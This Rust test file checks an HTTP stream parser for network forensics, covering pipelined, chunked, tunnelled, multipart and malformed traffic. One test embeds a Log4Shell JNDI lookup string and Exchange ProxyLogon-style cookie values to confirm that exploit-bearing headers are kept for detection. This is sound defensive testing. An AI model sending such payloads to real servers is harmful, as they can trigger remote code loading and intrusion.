use super::HttpParser;
use crate::Direction::{ToClient as Down, ToServer as Up};
use crate::testutil::{record, run_all_cuts};
use crate::{StreamParser, VecSink};
use sha2::Digest;
use std::io::Write;

fn http() -> Box<dyn StreamParser> {
    Box::new(HttpParser::new())
}

/// curl 7.88 request order, nginx response with Content-Length.
#[test]
fn simple_get_with_title_and_server() {
    let req = b"GET /remote/login?lang=en HTTP/1.1\r\nHost: vpn.example.co.jp:10443\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n";
    let body =
        b"<!DOCTYPE html>\n<html><head><title>Please Login</title></head><body>x</body></html>\n";
    let resp = format!(
        "HTTP/1.1 200 OK\r\nServer: xxxxxxxx-xxxxx\r\nDate: Sat, 21 Nov 2026 01:00:00 GMT\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    let mut down = resp.into_bytes();
    down.extend_from_slice(body);
    let (rec, sink) = run_all_cuts(http, "http", &[(Up, req), (Down, &down)]);
    let h = rec.http.as_ref().unwrap();
    assert_eq!(h.method.as_deref(), Some("GET"));
    assert_eq!(h.host.as_deref(), Some("vpn.example.co.jp:10443"));
    assert_eq!(
        h.url.as_deref(),
        Some("vpn.example.co.jp:10443/remote/login?lang=en")
    );
    assert_eq!(h.query.as_deref(), Some("lang=en"));
    assert_eq!(h.status, Some(200));
    assert_eq!(h.server.as_deref(), Some("xxxxxxxx-xxxxx"));
    assert_eq!(h.user_agent.as_deref(), Some("curl/7.88.1"));
    assert_eq!(h.content_type.as_deref(), Some("text/html; charset=utf-8"));
    assert_eq!(h.transactions.len(), 1);
    assert_eq!(h.transactions[0].title.as_deref(), Some("Please Login"));
    assert_eq!(h.transactions[0].response_body_bytes, body.len() as u64);
    assert_eq!(sink.objects.len(), 1);
    assert_eq!(sink.objects[0].1, body);
    assert_eq!(sink.objects[0].0.name.as_deref(), Some("login"));
    assert_eq!(sink.objects[0].0.direction, Some(Down));
    assert_eq!(rec.files.len(), 1);
    assert_eq!(rec.files[0].sha256, hex::encode(sha2::Sha256::digest(body)));
    assert_eq!(rec.files[0].direction, "download");
    assert!(rec.flags.is_empty(), "{:?}", rec.flags);
}

/// Pipelined keep-alive requests; chunked gzip response, then a 304, then a HEAD.
#[test]
fn pipelined_chunked_gzip_and_bodiless_responses() {
    let up = b"GET /a.js HTTP/1.1\r\nHost: cdn.example\r\n\r\nGET /b.css HTTP/1.1\r\nHost: cdn.example\r\nIf-None-Match: \"x\"\r\n\r\nHEAD /c.bin HTTP/1.1\r\nHost: cdn.example\r\n\r\n";
    let js = b"console.log('hello from a.js');\n".repeat(20);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&js).unwrap();
    let gz = gz.finish().unwrap();
    let mut down = b"HTTP/1.1 200 OK\r\nContent-Type: application/javascript\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
    // Two chunks, the first with a chunk extension.
    let (a, b) = gz.split_at(gz.len() / 2);
    down.extend_from_slice(format!("{:x};ext=1\r\n", a.len()).as_bytes());
    down.extend_from_slice(a);
    down.extend_from_slice(format!("\r\n{:X}\r\n", b.len()).as_bytes());
    down.extend_from_slice(b);
    down.extend_from_slice(b"\r\n0\r\n\r\n");
    down.extend_from_slice(b"HTTP/1.1 304 Not Modified\r\nETag: \"x\"\r\n\r\n");
    down.extend_from_slice(b"HTTP/1.1 200 OK\r\nContent-Length: 123456\r\nContent-Type: application/octet-stream\r\n\r\n");
    let (rec, sink) = run_all_cuts(http, "http", &[(Up, up), (Down, &down)]);
    let h = rec.http.unwrap();
    let statuses: Vec<_> = h
        .transactions
        .iter()
        .map(|t| (t.uri.as_str(), t.status))
        .collect();
    assert_eq!(
        statuses,
        vec![
            ("/a.js", Some(200)),
            ("/b.css", Some(304)),
            ("/c.bin", Some(200))
        ]
    );
    assert_eq!(sink.objects.len(), 1, "HEAD and 304 have no body");
    assert_eq!(sink.objects[0].1, js, "gzip body is stored decoded");
    assert_eq!(h.transactions[0].response_body_bytes, gz.len() as u64);
    assert!(rec.flags.is_empty(), "{:?}", rec.flags);
}

/// NetRAPTOR shows CONNECT as the authority; after 200 the tunnel is opaque.
#[test]
fn connect_tunnel_stops_parsing() {
    let up: &[u8] = b"CONNECT mtalk.google.com:5228 HTTP/1.1\r\nHost: mtalk.google.com:5228\r\nProxy-Connection: keep-alive\r\nUser-Agent: Mozilla/5.0\r\n\r\n\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";
    let down: &[u8] =
        b"HTTP/1.1 200 Connection established\r\n\r\n\x16\x03\x03\x00\x5a\x02\x00\x00\x56";
    let (rec, sink) = run_all_cuts(http, "http", &[(Up, up), (Down, down)]);
    let h = rec.http.unwrap();
    assert_eq!(h.method.as_deref(), Some("CONNECT"));
    assert_eq!(h.url.as_deref(), Some("mtalk.google.com:5228"));
    assert_eq!(h.status, Some(200));
    assert_eq!(h.transactions.len(), 1);
    assert!(sink.objects.is_empty());
    assert!(
        rec.flags.is_empty(),
        "tunnel bytes must not be parsed: {:?}",
        rec.flags
    );
}

#[test]
fn refused_connect_then_next_request() {
    let up: &[u8] = b"CONNECT evil.example:8443 HTTP/1.1\r\nHost: evil.example:8443\r\n\r\nGET http://ok.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n";
    let down: &[u8] = b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    let mut p = HttpParser::new();
    let mut rec = record("http");
    let mut sink = VecSink::default();
    p.on_data(Up, up, 0, &mut rec, &mut sink);
    p.on_data(Down, down, 0, &mut rec, &mut sink);
    p.on_close(&mut rec, &mut sink);
    let h = rec.http.unwrap();
    assert_eq!(h.transactions.len(), 2);
    assert_eq!(h.transactions[0].status, Some(403));
    assert_eq!(h.transactions[1].host.as_deref(), Some("ok.example"));
    assert_eq!(h.transactions[1].status, Some(200));
    assert_eq!(sink.objects[0].1, b"ok");
}

/// Firefox-style multipart upload with a Japanese file name (RFC 5987 not used by
/// browsers: they send raw UTF-8 in the quoted filename).
#[test]
fn multipart_upload_and_basic_auth() {
    let file = b"%PDF-1.7\n\x00\x01binary\r\n--not-the-boundary\r\n";
    let mut body = Vec::new();
    body.extend_from_slice(b"-----------------------------9051914041544843365972754266\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\ntext default\r\n");
    body.extend_from_slice(b"-----------------------------9051914041544843365972754266\r\nContent-Disposition: form-data; name=\"file1\"; filename=\"\xe5\xa0\xb1\xe5\x91\x8a.pdf\"\r\nContent-Type: application/pdf\r\n\r\n");
    body.extend_from_slice(file);
    body.extend_from_slice(b"\r\n-----------------------------9051914041544843365972754266--\r\n");
    let mut up = format!(
        "POST /upload HTTP/1.1\r\nHost: files.example\r\nAuthorization: Basic YWxpY2U6c2VjcmV0\r\nContent-Type: multipart/form-data; boundary=---------------------------9051914041544843365972754266\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    up.extend_from_slice(&body);
    let down: &[u8] = b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n";
    let (rec, sink) = run_all_cuts(http, "http", &[(Up, &up), (Down, down)]);
    let h = rec.http.unwrap();
    assert_eq!(h.user.as_deref(), Some("alice"));
    assert!(
        h.transactions[0]
            .headers
            .contains(&("authorization".into(), "Basic".into()))
    );
    assert_eq!(h.transactions[0].request_body_bytes, body.len() as u64);
    assert_eq!(sink.objects.len(), 1);
    assert_eq!(sink.objects[0].0.name.as_deref(), Some("報告.pdf"));
    assert_eq!(sink.objects[0].0.direction, Some(Up));
    assert_eq!(sink.objects[0].1, file);
    assert_eq!(rec.files[0].direction, "upload");
}

/// Bare-LF heads (old embedded servers), body until close, Content-Disposition name.
#[test]
fn lf_only_and_body_until_close() {
    let up: &[u8] = b"GET /export HTTP/1.0\nHost: 192.168.1.1\n\n";
    let down: &[u8] = b"HTTP/1.0 200 OK\nContent-Type: text/csv\nContent-Disposition: attachment; filename=\"users.csv\"\n\nid,name\n1,alice\n";
    let (rec, sink) = run_all_cuts(http, "http", &[(Up, up), (Down, down)]);
    assert_eq!(rec.http.as_ref().unwrap().status, Some(200));
    assert_eq!(sink.objects[0].0.name.as_deref(), Some("users.csv"));
    assert_eq!(sink.objects[0].1, b"id,name\n1,alice\n");
    assert!(!sink.objects[0].0.partial);
}

#[test]
fn winrm_by_path() {
    let up: &[u8] = b"POST /wsman HTTP/1.1\r\nConnection: Keep-Alive\r\nContent-Type: application/soap+xml;charset=UTF-8\r\nUser-Agent: Microsoft WinRM Client\r\nContent-Length: 5\r\nHost: 10.0.0.20:5985\r\n\r\n<s:E>";
    let (rec, _) = run_all_cuts(http, "http", &[(Up, up)]);
    assert_eq!(rec.protocol, "winrm");
    assert_eq!(
        rec.http.unwrap().url.as_deref(),
        Some("10.0.0.20:5985/wsman")
    );
}

/// A gap inside a Content-Length body is skipped (object partial), the next request parses.
#[test]
fn gap_in_body_then_resync() {
    let mut p = HttpParser::new();
    let mut rec = record("http");
    let mut sink = VecSink::default();
    p.on_data(
        Up,
        b"GET /big HTTP/1.1\r\nHost: h\r\n\r\nGET /next HTTP/1.1\r\nHost: h\r\n\r\n",
        0,
        &mut rec,
        &mut sink,
    );
    p.on_data(
        Down,
        b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc",
        0,
        &mut rec,
        &mut sink,
    );
    p.on_gap(Down, 4, &mut rec);
    p.on_data(Down, b"hij", 0, &mut rec, &mut sink);
    p.on_data(
        Down,
        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
        0,
        &mut rec,
        &mut sink,
    );
    // Garbage that is not HTTP, after a gap in the head: flagged, then resynchronised.
    p.on_gap(Up, 100, &mut rec);
    p.on_data(
        Up,
        b"xx garbage\r\nGET /after HTTP/1.1\r\nHost: h\r\n\r\n",
        0,
        &mut rec,
        &mut sink,
    );
    p.on_close(&mut rec, &mut sink);
    let h = rec.http.unwrap();
    let got: Vec<_> = h
        .transactions
        .iter()
        .map(|t| (t.uri.clone(), t.status))
        .collect();
    assert_eq!(
        got,
        vec![
            ("/big".into(), Some(200)),
            ("/next".into(), Some(404)),
            ("/after".into(), None)
        ]
    );
    assert_eq!(sink.objects.len(), 1);
    assert!(sink.objects[0].0.partial);
    assert_eq!(sink.objects[0].1, b"abchij");
    assert_eq!(h.transactions[0].response_body_bytes, 10);
}

#[test]
fn garbage_is_flagged_not_buffered() {
    let mut p = HttpParser::new();
    let mut rec = record("http");
    let mut sink = VecSink::default();
    p.on_data(Up, &[0u8; 100_000], 0, &mut rec, &mut sink);
    assert!(rec.has_flag("malformed:http"));
    assert!(p.buffered() <= 64);
}

#[test]
fn response_without_request_is_recorded() {
    let (rec, sink) = run_all_cuts(
        http,
        "http",
        &[(
            Down,
            b"HTTP/1.1 500 Internal Server Error\r\nServer: Apache\r\nContent-Length: 3\r\n\r\nerr",
        )],
    );
    assert!(rec.has_flag("http_response_without_request"));
    let h = rec.http.unwrap();
    assert_eq!(h.status, Some(500));
    assert_eq!(h.server.as_deref(), Some("Apache"));
    assert_eq!(sink.objects[0].1, b"err");
}

mod props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, .. ProptestConfig::default() })]
        /// Any bytes, any cut: no panic, and memory stays bounded.
        #[test]
        fn arbitrary_bytes_never_panic(up in proptest::collection::vec(any::<u8>(), 0..600), down in proptest::collection::vec(any::<u8>(), 0..600), cut in 1usize..50) {
            let mut p = HttpParser::new();
            let mut rec = record("http");
            let mut sink = VecSink::default();
            for (a, b) in up.chunks(cut).zip(down.chunks(cut)) {
                p.on_data(Up, a, 0, &mut rec, &mut sink);
                p.on_data(Down, b, 0, &mut rec, &mut sink);
            }
            p.on_close(&mut rec, &mut sink);
        }

        /// A request with any path and any body length is framed exactly.
        #[test]
        fn content_length_bodies_are_exact(path in "/[a-z0-9/._-]{0,40}", body in proptest::collection::vec(any::<u8>(), 0..300), cut in 1usize..40) {
            let mut up = format!("PUT {path} HTTP/1.1\r\nHost: h\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
            up.extend_from_slice(&body);
            up.extend_from_slice(b"GET /second HTTP/1.1\r\nHost: h\r\n\r\n");
            let mut p = HttpParser::new();
            let mut rec = record("http");
            let mut sink = VecSink::default();
            for c in up.chunks(cut) {
                p.on_data(Up, c, 0, &mut rec, &mut sink);
            }
            p.on_close(&mut rec, &mut sink);
            let h = rec.http.unwrap();
            prop_assert_eq!(h.transactions.len(), 2);
            prop_assert_eq!(&h.transactions[0].uri, &path);
            prop_assert_eq!(&h.transactions[1].uri, "/second");
            if body.is_empty() {
                prop_assert!(sink.objects.is_empty());
            } else {
                prop_assert_eq!(&sink.objects[0].1, &body);
            }
        }
    }
}

/// Exploit payloads in arbitrary headers are kept for detections; cookie values are not.
#[test]
fn exploit_bearing_headers_are_kept() {
    let req = b"GET /ecp/y.js HTTP/1.1\r\nHost: mail.example.co.jp\r\nUser-Agent: Mozilla/5.0\r\nX-Api-Version: ${jndi:ldap://198.51.100.9:1389/a}\r\nX-Trace: plain\r\nCookie: X-AnonResource=true; X-BEResource=localhost/owa/auth/logon.aspx?~3; sid=secret\r\n\r\n";
    let (rec, _) = run_all_cuts(http, "http", &[(Up, req)]);
    let t = &rec.http.as_ref().unwrap().transactions[0];
    assert!(
        t.headers.contains(&(
            "x-api-version".to_string(),
            "${jndi:ldap://198.51.100.9:1389/a}".to_string()
        )),
        "{:?}",
        t.headers
    );
    assert!(
        t.headers
            .contains(&("x-beresource".to_string(), "in cookie".to_string()))
    );
    assert!(
        t.headers
            .iter()
            .all(|(n, v)| n != "x-trace" && !v.contains("secret")),
        "{:?}",
        t.headers
    );
}

/// curl → python http.server on loopback. The downloaded file and the multipart upload
/// must be byte-identical to the file served/sent (SHA-256 by sha256sum on it); method,
/// URI, status and Server as tshark shows them for the same pcap.
#[test]
fn real_curl_sessions_reconstruct_files() {
    use crate::testutil::{corpus, view};
    let sha = include_str!("../../fuzz/corpus/http/data.bin.sha256").trim();

    let t = corpus("http", "curl-pyhttp-0.bin");
    let (rec, _) = run_all_cuts(http, "http", &view(&t));
    let h = rec.http.unwrap();
    assert_eq!(h.url.as_deref(), Some("127.0.0.1:48080/index.html"));
    assert_eq!(h.status, Some(200));
    assert_eq!(h.server.as_deref(), Some("SimpleHTTP/0.6 Python/3.11.2"));
    assert_eq!(h.transactions[0].title.as_deref(), Some("社内ポータル"));

    let t = corpus("http", "curl-pyhttp-1.bin");
    let (rec, _) = run_all_cuts(http, "http", &view(&t));
    assert_eq!(rec.files.len(), 1);
    assert_eq!(rec.files[0].sha256, sha);
    assert_eq!(rec.files[0].name.as_deref(), Some("data.bin"));

    let t = corpus("http", "curl-pyhttp-2.bin");
    let (rec, sink) = run_all_cuts(http, "http", &view(&t));
    assert_eq!(rec.http.as_ref().unwrap().status, Some(501));
    let upload = rec
        .files
        .iter()
        .find(|f| f.direction == "upload")
        .expect("upload reconstructed");
    assert_eq!(upload.sha256, sha);
    assert_eq!(upload.name.as_deref(), Some("secret.bin"));
    assert!(
        sink.objects.iter().any(|o| o.0.direction == Some(Down)),
        "the 501 error page is kept too"
    );
}

/// A 206 answer carries a piece of the file: the object says it is partial.
#[test]
fn range_response_is_partial() {
    let (_, sink) = run_all_cuts(
        http,
        "http",
        &[
            (Up, b"GET /big.iso HTTP/1.1\r\nHost: h\r\nRange: bytes=0-3\r\n\r\n"),
            (Down, b"HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-3/100\r\nContent-Length: 4\r\n\r\nabcd"),
        ],
    );
    assert_eq!(sink.objects[0].1, b"abcd");
    assert!(sink.objects[0].0.partial);
}

/// PHP behind Apache announces itself in `X-Powered-By` (a second response without one
/// keeps the first value at the top level).
#[test]
fn x_powered_by_is_kept() {
    let req = b"GET / HTTP/1.1\r\nHost: intra\r\n\r\nGET /b HTTP/1.1\r\nHost: intra\r\n\r\n";
    let down = b"HTTP/1.1 200 OK\r\nServer: Apache/2.4.41 (Ubuntu)\r\nX-Powered-By: PHP/7.4.3\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n";
    let (rec, _) = run_all_cuts(http, "http", &[(Up, req), (Down, down)]);
    let h = rec.http.as_ref().unwrap();
    assert_eq!(h.powered_by.as_deref(), Some("PHP/7.4.3"));
    assert_eq!(h.transactions[0].powered_by.as_deref(), Some("PHP/7.4.3"));
    assert_eq!(h.transactions[1].powered_by, None);
}
